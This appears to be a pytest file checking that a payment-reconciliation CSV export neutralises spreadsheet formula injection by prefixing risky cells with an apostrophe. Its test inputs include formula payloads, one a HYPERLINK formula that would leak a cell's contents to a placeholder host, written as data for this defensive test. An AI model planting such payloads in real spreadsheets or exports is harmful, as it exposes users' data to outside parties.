"""``breaks.csv`` neutralises formula cells: a provider's text starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return reaches the spreadsheet as text (prefixed ``'``), never as a formula.
Our own amounts (``-12.50``) stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from chalicelib.recon import LedgerLine, MemoryLedgerSource, reconcile_statement

HEADER = "financialTransactionId,externalId,amount,currency,status,date"


@pytest.mark.parametrize("reference", ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)",
                                       "\t=1+1"])
def test_a_formula_in_a_provider_reference_is_written_as_text(reference):
    quoted = '"' + reference.replace('"', '""') + '"'
    statement = f"{HEADER}\nM1,{quoted},10,RWF,SUCCESSFUL,2026-05-01T10:00:00Z\n"
    rec = reconcile_statement("mtn_momo", statement, MemoryLedgerSource([]))
    rows = list(csv.DictReader(io.StringIO(rec.breaks_csv(), newline="")))
    assert [row["reference"] for row in rows] == ["'" + reference]


def test_negative_amounts_stay_numbers():
    statement = f"{HEADER}\nM1,po_1,900,RWF,SUCCESSFUL,2026-05-01T10:00:00Z\n"
    ledger = MemoryLedgerSource([LedgerLine("po_1", "mtn_momo", -1000, "RWF", __import__("datetime").date(2026, 5, 1),
                                            "payout", "po_1")])
    rows = list(csv.DictReader(io.StringIO(reconcile_statement("mtn_momo", statement, ledger).breaks_csv())))
    assert rows and all(not row["ledger_amount"].startswith("'") for row in rows)
    assert any(row["ledger_amount"].startswith("-") or row["difference"].startswith("-") for row in rows)


def test_a_cell_starting_with_a_carriage_return_is_written_as_text():
    """(A statement line cannot carry a bare CR: the importer splits lines on it, so the cell rule itself.)"""
    from chalicelib.recon.engine import _csv_text

    assert _csv_text("\r=1+1") == "'\r=1+1" and _csv_text("po_1") == "po_1" and _csv_text(None) is None
